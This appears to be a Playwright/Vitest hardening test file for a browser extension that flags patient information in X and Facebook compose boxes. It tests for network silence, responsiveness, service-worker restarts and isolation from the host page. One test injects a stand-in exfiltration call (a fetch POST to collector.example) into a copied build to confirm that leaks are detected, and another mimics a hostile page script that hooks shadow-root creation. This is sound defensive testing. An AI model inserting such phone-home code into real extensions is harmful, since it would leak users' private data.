import { readdirSync, readFileSync, statSync } from "node:fs";
import { join, relative } from "node:path";
import type { CDPSession, Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import { accessibleNodes, browserPerTest, clickAccessible, DIST_CHROME, serveSite, waitForAccessible } from "./harness";
import { markedText } from "./overlay-marks";

/**
 * Hardening: the promises a security reviewer asks about. No byte of a post leaves the browser; a huge
 * paste does not freeze the page; a service worker Chromium stopped does not let a post through
 * unchecked; and the page we run on cannot read what we found.
 */

const X = "https://x.com";
const EDITOR = '[data-testid="tweetTextarea_0"]';
const POST_BUTTON = '[data-testid="tweetButtonInline"]';

/** A compose box on a fixture of its site (tests/fixtures), and how the user posts from it. */
interface ComposeBox {
  name: string;
  origin: string;
  path: string;
  shell: string;
  editor: string;
  post(page: Page): Promise<void>;
}
const X_POST: ComposeBox = {
  name: "an X post (Draft.js, the Post button)",
  origin: X,
  path: "/home",
  shell: "x.html",
  editor: EDITOR,
  post: (page) => page.locator(POST_BUTTON).click(),
};
const FACEBOOK_COMMENT: ComposeBox = {
  name: "a Facebook comment (Lexical, the Enter key)",
  origin: "https://www.facebook.com",
  path: "/permalink/1",
  shell: "facebook.html",
  editor: '[data-lexical-editor="true"]',
  post: (page) => page.keyboard.press("Enter"),
};
const PLAIN_TEXTAREA: ComposeBox = {
  name: "a plain textarea",
  origin: X,
  path: "/home",
  shell: "plain-textarea.html",
  editor: "#compose",
  post: (page) => page.keyboard.press("Control+Enter"),
};
const PATIENT = "Amy Ortiz";
const PHONE = "312-555-0188";
const PHI_POST = `call me back re: pt ${PATIENT}, her mom's number is ${PHONE}`;
const GATE_ROLE = /^(alert)?dialog$/;
const RESULT_BADGE = /^Safe Harbor: (?!checking)/;

const browser = browserPerTest();

/** Every request anything in the browser made (pages, extension pages, the worker), and websockets. */
interface RequestLog {
  urls: string[];
  /** The fixture site's origin: its requests are served locally, never from the network. */
  origin: string;
}

/**
 * Launches the extension with every request recorded, and anything not served by a fixture aborted
 * before it reaches the network (Playwright's catch-all route; the later, more specific fixture route
 * wins). Requests from the extension's service worker are included (Chromium reports them too).
 */
async function launchRecorded(
  extensionDir?: string,
  box: ComposeBox = X_POST,
): Promise<{ page: Page; log: RequestLog }> {
  const launched = await browser.launch(extensionDir);
  const log: RequestLog = { urls: [], origin: box.origin };
  launched.context.on("request", (request) => log.urls.push(request.url()));
  launched.context.on("page", (page) => page.on("websocket", (socket) => log.urls.push(socket.url())));
  await launched.context.route("**/*", (route) => route.abort("blockedbyclient"));
  await serveSite(launched.context, box.origin, box.shell);
  const page = await launched.context.newPage();
  await page.goto(`${box.origin}${box.path}`);
  await page.locator(box.editor).waitFor();
  return { page, log };
}

function unexpectedRequests(log: RequestLog): string[] {
  const ownPages = `chrome-extension://${browser.launched?.extensionId}/`;
  return log.urls.filter((url) => !url.startsWith(`${log.origin}/`) && !url.startsWith(ownPages));
}

async function typeInto(page: Page, text: string, box: ComposeBox = X_POST): Promise<void> {
  await page.locator(box.editor).click();
  await page.keyboard.type(text);
}

async function submittedPosts(page: Page): Promise<string[]> {
  return page.evaluate(() => [...(window as unknown as { fixture: { submitted: string[] } }).fixture.submitted]);
}

/**
 * Stops the extension's service worker the way Chromium does when it is idle (DevTools'
 * ServiceWorker.stopAllWorkers; only ours runs in this profile) and waits until it has stopped. A worker
 * still installing is restarted by Chromium once, so it waits for activation first and asks again if needed.
 */
async function stopServiceWorker(page: Page): Promise<void> {
  const session = await page.context().newCDPSession(page);
  try {
    const worker = { running: "unknown", activated: false };
    session.on("ServiceWorker.workerVersionUpdated", ({ versions }) => {
      for (const version of versions) {
        if (!version.scriptURL.startsWith(`chrome-extension://${browser.launched?.extensionId}/`)) continue;
        worker.running = version.runningStatus;
        worker.activated = version.status === "activated";
      }
    });
    await session.send("ServiceWorker.enable");
    await until(page, () => worker.activated, "the service worker to activate");
    for (let attempt = 1; worker.running !== "stopped"; attempt++) {
      await session.send("ServiceWorker.stopAllWorkers");
      const stopped = await until(page, () => worker.running === "stopped", "", 3_000).catch(() => false);
      if (!stopped && attempt === 3) throw new Error(`the service worker did not stop (status ${worker.running})`);
    }
  } finally {
    await session.detach();
  }
}

async function until(page: Page, condition: () => boolean, what: string, timeoutMs = 10_000): Promise<true> {
  const deadline = Date.now() + timeoutMs;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await page.waitForTimeout(20);
  }
  return true;
}

/**
 * Waits until our status badge shows a settled state (a verdict, or "checker unavailable"). Asks the
 * accessibility tree for status nodes only: the full tree would carry a megabyte-long textarea value.
 */
async function waitForSettledBadge(page: Page, timeoutMs: number): Promise<string> {
  const session = await page.context().newCDPSession(page);
  try {
    const { root } = (await session.send("DOM.getDocument", { depth: 0 })) as { root: { backendNodeId: number } };
    const deadline = Date.now() + timeoutMs;
    for (;;) {
      const { nodes } = (await session.send("Accessibility.queryAXTree", {
        backendNodeId: root.backendNodeId,
        role: "status",
      })) as { nodes: Array<{ name?: { value?: string } }> };
      const name = nodes.map((node) => String(node.name?.value ?? "")).find((found) => RESULT_BADGE.test(found));
      if (name) return name;
      if (Date.now() > deadline) throw new Error(`no settled Safe Harbor badge within ${timeoutMs} ms`);
      await page.waitForTimeout(100);
    }
  } finally {
    await session.detach();
  }
}

describe("no network requests, ever", () => {
  it("the built extension's code calls no network API and names no remote host", () => {
    const files = listFiles(DIST_CHROME).filter((file) => /\.(m?js|html|json)$/.test(file));
    const offending: string[] = [];
    for (const file of files) {
      const code = readFileSync(file, "utf8");
      for (const api of ["fetch(", "XMLHttpRequest", "WebSocket", "sendBeacon", "EventSource", "importScripts"]) {
        if (code.includes(api)) offending.push(`${relative(DIST_CHROME, file)}: ${api}`);
      }
      // XML namespaces (w3.org) are names, not requests; the manifest's match patterns are the sites.
      for (const [url] of code.matchAll(/\b(?:https?|wss?):\/\/[\w-]+(?:\.[\w-]+)+/g)) {
        if (!/^https?:\/\/www\.w3\.org$/.test(url) && !file.endsWith("manifest.json")) {
          offending.push(`${relative(DIST_CHROME, file)}: ${url}`);
        }
      }
    }
    expect(files.length).toBeGreaterThan(2);
    expect(offending).toEqual([]);
  });

  it("the built manifest asks for storage only: no hosts, no web-facing entry points", () => {
    const manifest = JSON.parse(readFileSync(join(DIST_CHROME, "manifest.json"), "utf8")) as Record<string, unknown>;
    expect(manifest.permissions).toEqual(["storage"]);
    expect(manifest.optional_permissions).toBeUndefined();
    expect(manifest.host_permissions).toBeUndefined();
    expect(manifest.externally_connectable).toBeUndefined();
    expect(manifest.web_accessible_resources).toBeUndefined();
    expect(manifest.content_security_policy).toBeUndefined();
  });

  it("sends nothing anywhere while the user types, reads findings, meets the gate, the worker restarts and our pages open", async () => {
    const { page, log } = await launchRecorded();
    await typeInto(page, PHI_POST);
    await waitForAccessible(page, "status", /^Safe Harbor: high risk/);
    await clickAccessible(page, "button", /^Safe Harbor: high risk/);
    await page.locator(POST_BUTTON).click();
    await waitForAccessible(page, GATE_ROLE, /Safe Harbor/);
    await clickAccessible(page, "button", /^Edit /);
    // A restarted worker runs its start-up code again, now with the recorder listening.
    await stopServiceWorker(page);
    await page.keyboard.type(" thx");
    await waitForAccessible(page, "status", /^Safe Harbor: high risk/);
    for (const ownPage of ["src/ui/options/index.html", "src/ui/popup/index.html"]) {
      const opened = await page.context().newPage();
      await opened.goto(`chrome-extension://${browser.launched?.extensionId}/${ownPage}`);
      await opened.waitForLoadState("load");
      await opened.close();
    }

    expect(log.urls.some((url) => url.startsWith(`${X}/`))).toBe(true);
    expect(unexpectedRequests(log)).toEqual([]);
  });

  it("notices a build that phones home, from the worker or the content script", async () => {
    const leak = (from: string) => (code: string) =>
      `${code}\n;fetch("https://collector.example/${from}", { method: "POST" }).catch(() => {});\n`;
    const dir = browser.copyBuild("safe-harbor-leaky-", {
      "service-worker-loader.js": leak("worker"),
      "src/content/main.js": leak("content"),
    });

    const { page, log } = await launchRecorded(dir);
    await stopServiceWorker(page);
    await typeInto(page, PHI_POST);
    await waitForAccessible(page, "status", RESULT_BADGE);
    expect(unexpectedRequests(log)).toEqual(
      expect.arrayContaining(["https://collector.example/content", "https://collector.example/worker"]),
    );
  });
});

describe("a 1 MB paste keeps the page responsive", () => {
  /**
   * A plain textarea: Draft.js itself needs many seconds to lay out a megabyte, which would drown what
   * is measured here, our own work. The paste arrives as the page sees one: the value changes, then an
   * `input` event with inputType "insertFromPaste".
   */
  // Judged on CPU time: on a shared test machine a 1 MB runtime.sendMessage measured 48 ms of CPU but up to
  // 0.9 s of wall time, the rest being other processes. The message shows both.
  it("runs none of our code for 200 ms or more at a time", { timeout: 150_000 }, async () => {
    const { page } = await launchRecorded(undefined, PLAIN_TEXTAREA);
    const trace = await startTrace(page);
    await page.locator("#compose").click();
    await page.evaluate((text) => {
      const composer = document.querySelector("textarea") as HTMLTextAreaElement;
      composer.value = text;
      composer.dispatchEvent(new InputEvent("input", { inputType: "insertFromPaste", bubbles: true }));
    }, realisticText(1_000_000));
    await waitForSettledBadge(page, 60_000);
    await page.keyboard.type(" ok");
    await waitForSettledBadge(page, 60_000);
    const tasks = ourTimePerTask(await trace.stop(), browser.launched?.extensionId ?? "");

    expect(await page.locator("#compose").evaluate((composer: HTMLTextAreaElement) => composer.value.length)).toBe(
      1_000_003,
    );
    expect(tasks.count, "our content script never ran while traced").toBeGreaterThan(0);
    expect(tasks.longestMs, `our longest stretch in one task; ${tasks.summary}`).toBeLessThan(200);
  });
});

describe.each([X_POST, FACEBOOK_COMMENT])("a service worker Chromium stopped, on $name", (box) => {
  it("still checks a post typed while it was down, and the gate holds it", async () => {
    const { page } = await launchRecorded(undefined, box);
    await typeInto(page, "call me back re: pt ", box);
    await waitForAccessible(page, "status", RESULT_BADGE);
    await stopServiceWorker(page);
    await page.keyboard.type(`${PATIENT}, her mom's number is ${PHONE}`);
    await box.post(page);

    const gate = await waitForAccessible(page, GATE_ROLE, /Safe Harbor/, 15_000);
    expect(gate.name).not.toMatch(/could not check/);
    expect(await submittedPosts(page)).toEqual([]);
  });
});

describe("the page cannot read what we found", () => {
  /** Runs in the page's own world before any of its scripts, as a hostile site's first script would. */
  function spyOnShadowRoots() {
    const captured: ShadowRoot[] = [];
    const original = Element.prototype.attachShadow;
    Element.prototype.attachShadow = function (this: Element, init: ShadowRootInit) {
      const root = original.call(this, init);
      captured.push(root);
      return root;
    };
    (window as unknown as { capturedRoots: ShadowRoot[] }).capturedRoots = captured;
  }

  async function showFindingsAndGate(page: Page): Promise<void> {
    await typeInto(page, PHI_POST);
    await waitForAccessible(page, "status", /^Safe Harbor: high risk/);
    await clickAccessible(page, "button", /^Safe Harbor: high risk/);
    await page.locator(POST_BUTTON).click();
    await waitForAccessible(page, GATE_ROLE, /Safe Harbor/);
  }

  it("sees our hosts but no shadow root, no finding and no post text in our elements or its storage", async () => {
    const launched = await browser.launch();
    await launched.context.addInitScript(spyOnShadowRoots);
    await serveSite(launched.context, X, "x.html");
    const page = await launched.context.newPage();
    await page.goto(`${X}/home`);
    await showFindingsAndGate(page);
    const ours = (await accessibleNodes(page)).filter((node) => /Safe Harbor|patient|phone/i.test(node.name));
    expect(ours.length).toBeGreaterThan(1);

    const seen = await page.evaluate(
      async ({ editorSelector, secrets }) => {
        const editor = document.querySelector(editorSelector);
        const hosts = [...document.querySelectorAll("*")].filter((element) =>
          element.tagName.startsWith("SAFE-HARBOR"),
        );
        const attributeLeaks: string[] = [];
        for (const element of document.querySelectorAll("*")) {
          if (editor?.contains(element)) continue;
          for (const attribute of element.attributes) {
            if (secrets.some((secret) => attribute.value.includes(secret))) {
              attributeLeaks.push(`${element.tagName} ${attribute.name}`);
            }
          }
        }
        const outside = document.documentElement.cloneNode(true) as HTMLElement;
        outside.querySelector(editorSelector)?.remove();
        return {
          hosts: hosts.length,
          openRoots: hosts.filter((host) => host.shadowRoot !== null).length,
          capturedRoots: (window as unknown as { capturedRoots: ShadowRoot[] }).capturedRoots.length,
          attributeLeaks,
          textLeaks: secrets.filter((secret) => (outside.textContent ?? "").includes(secret)),
          // Content scripts share the site's storage: anything we put there, the site can read.
          siteStorage: [
            localStorage.length,
            sessionStorage.length,
            document.cookie,
            (await indexedDB.databases()).length,
          ],
        };
      },
      { editorSelector: EDITOR, secrets: [PATIENT, PHONE, ...ours.map((node) => node.name)] },
    );
    expect(seen.hosts).toBeGreaterThan(0);
    expect(seen).toEqual({
      hosts: seen.hosts,
      openRoots: 0,
      capturedRoots: 0,
      attributeLeaks: [],
      textLeaks: [],
      siteStorage: [0, 0, "", 0],
    });
  });

  // Marks are drawn in our closed shadow root, never with the CSS Custom Highlight API: `CSS.highlights` is
  // one registry per document, shared with page scripts, and would hand the page every flagged range.
  it("cannot read which text we flagged: nothing in the highlight registry, the editor or the page", async () => {
    const { page } = await launchRecorded();
    await typeInto(page, PHI_POST);
    await waitForAccessible(page, "status", /^Safe Harbor: high risk/);
    // The marks are drawn: DevTools, which reaches into closed roots, finds them over exactly those words.
    await expect.poll(() => markedText(page, EDITOR), { timeout: 10_000 }).toEqual([PATIENT, PHONE].sort());

    const seen = await page.evaluate(
      ({ editorSelector, secrets }) => {
        const editor = document.querySelector(editorSelector);
        const ours = [...document.querySelectorAll("*")].filter((element) => element.tagName.startsWith("SAFE-HARBOR"));
        const outside = document.documentElement.cloneNode(true) as HTMLElement;
        outside.querySelector(editorSelector)?.remove();
        const sheets = [...document.styleSheets, ...document.adoptedStyleSheets];
        return {
          registry: [...CSS.highlights.keys()],
          highlightRules: sheets.flatMap((sheet) =>
            [...sheet.cssRules].filter((rule) => rule.cssText.includes("::highlight")).map((rule) => rule.cssText),
          ),
          openRoots: ours.filter((host) => host.shadowRoot !== null).length,
          textLeaks: secrets.filter((secret) => (outside.textContent ?? "").includes(secret)),
          // Only the editor's own nodes: nothing of ours was put inside it.
          oursInEditor: [...(editor?.querySelectorAll("*") ?? [])]
            .filter(
              (element) =>
                element.tagName.startsWith("SAFE-HARBOR") ||
                [...element.attributes].some((attribute) => /safe-harbor/i.test(attribute.name + attribute.value)),
            )
            .map((element) => element.outerHTML),
        };
      },
      { editorSelector: EDITOR, secrets: [PATIENT, PHONE] },
    );
    expect(seen).toEqual({ registry: [], highlightRules: [], openRoots: 0, textLeaks: [], oursInEditor: [] });
  });

  it("cannot use the worker as an oracle", async () => {
    const { page } = await launchRecorded();
    const answer = await page.evaluate(async (id) => {
      type SendMessage = (id: string | undefined, message: object) => Promise<unknown>;
      const runtime = (window as unknown as { chrome?: { runtime?: { sendMessage?: SendMessage } } }).chrome?.runtime;
      if (!runtime?.sendMessage) return "no runtime";
      try {
        return JSON.stringify(await runtime.sendMessage(id, { type: "check", text: "pt 312-555-0188", revision: 1 }));
      } catch (error) {
        return `refused: ${(error as Error).message}`;
      }
    }, browser.launched?.extensionId);
    expect(answer).toMatch(/^(no runtime|refused)/);
  });
});

function listFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? listFiles(path) : [path];
  });
}

/** About `length` characters of clinicians' posts (the shared corpus), a blank line between posts. */
function realisticText(length: number): string {
  const posts = readFileSync("../shared/corpus/dev.jsonl", "utf8")
    .split("\n")
    .filter((line) => line.trim() !== "")
    .map((line) => (JSON.parse(line) as { text: string }).text);
  const parts: string[] = [];
  let size = 0;
  for (let index = 0; size < length; index++) {
    const post = posts[index % posts.length] ?? "";
    parts.push(post);
    size += post.length + 2;
  }
  return parts.join("\n\n").slice(0, length);
}

interface TraceEvent {
  name: string;
  ph: string;
  ts: number;
  dur?: number;
  /** Thread (CPU) time of the slice: unlike `dur`, it does not grow when other work preempts the thread. */
  tdur?: number;
  pid: number;
  tid: number;
  args?: { name?: string; data?: { url?: string } };
}

/** Chromium's own performance trace of the page (what the DevTools Performance panel records). */
async function startTrace(page: Page): Promise<{ stop(): Promise<TraceEvent[]> }> {
  const session: CDPSession = await page.context().newCDPSession(page);
  const events: TraceEvent[] = [];
  session.on("Tracing.dataCollected", ({ value }) => events.push(...(value as unknown as TraceEvent[])));
  await session.send("Tracing.start", {
    categories: "devtools.timeline,disabled-by-default-devtools.timeline,toplevel,__metadata",
    transferMode: "ReportEvents",
  });
  return {
    async stop() {
      const done = new Promise<void>((resolve) => session.once("Tracing.tracingComplete", () => resolve()));
      await session.send("Tracing.end");
      await done;
      await session.detach();
      return events;
    },
  };
}

/**
 * How long our content script ran inside each main-thread task of the page: the outermost "FunctionCall"
 * slices whose script is ours, summed per enclosing "RunTask". Judged on the slices' thread (CPU) time,
 * so a busy test machine does not count against us. The browser's own work (layout of a megabyte,
 * Draft.js) is the page's, not ours.
 */
function ourTimePerTask(events: TraceEvent[], extensionId: string) {
  const mainThreads = new Set(
    events
      .filter((event) => event.name === "thread_name" && event.args?.name === "CrRendererMain")
      .map((event) => `${event.pid}:${event.tid}`),
  );
  const onMain = (event: TraceEvent) => mainThreads.has(`${event.pid}:${event.tid}`) && event.ph === "X";
  const tasks = events.filter((event) => onMain(event) && event.name === "RunTask");
  const ours = events
    .filter(
      (event) =>
        onMain(event) &&
        event.name === "FunctionCall" &&
        (event.args?.data?.url ?? "").startsWith(`chrome-extension://${extensionId}/`),
    )
    .sort((a, b) => a.ts - b.ts);
  // Our calls nest (a listener calling back into our code), so only the outermost ones are summed.
  const perTask = new Map<TraceEvent, { wall: number; cpu: number }>();
  let coveredUntil = 0;
  for (const call of ours) {
    if (call.ts < coveredUntil) continue;
    coveredUntil = call.ts + (call.dur ?? 0);
    const task = tasks.find((candidate) => candidate.ts <= call.ts && call.ts <= candidate.ts + (candidate.dur ?? 0));
    if (!task) continue;
    const sum = perTask.get(task) ?? { wall: 0, cpu: 0 };
    sum.wall += (call.dur ?? 0) / 1000;
    sum.cpu += (call.tdur ?? call.dur ?? 0) / 1000;
    perTask.set(task, sum);
  }
  const longestCpu = Math.max(0, ...[...perTask.values()].map((sum) => sum.cpu));
  const longestWall = Math.max(0, ...[...perTask.values()].map((sum) => sum.wall));
  const longestTask = Math.max(0, ...tasks.map((task) => (task.dur ?? 0) / 1000));
  return {
    count: ours.length,
    longestMs: longestCpu,
    summary: `${ours.length} calls of ours in ${perTask.size} tasks, longest ${longestCpu.toFixed(1)} ms of CPU (${longestWall.toFixed(1)} ms wall); longest task overall ${longestTask.toFixed(0)} ms wall`,
  };
}
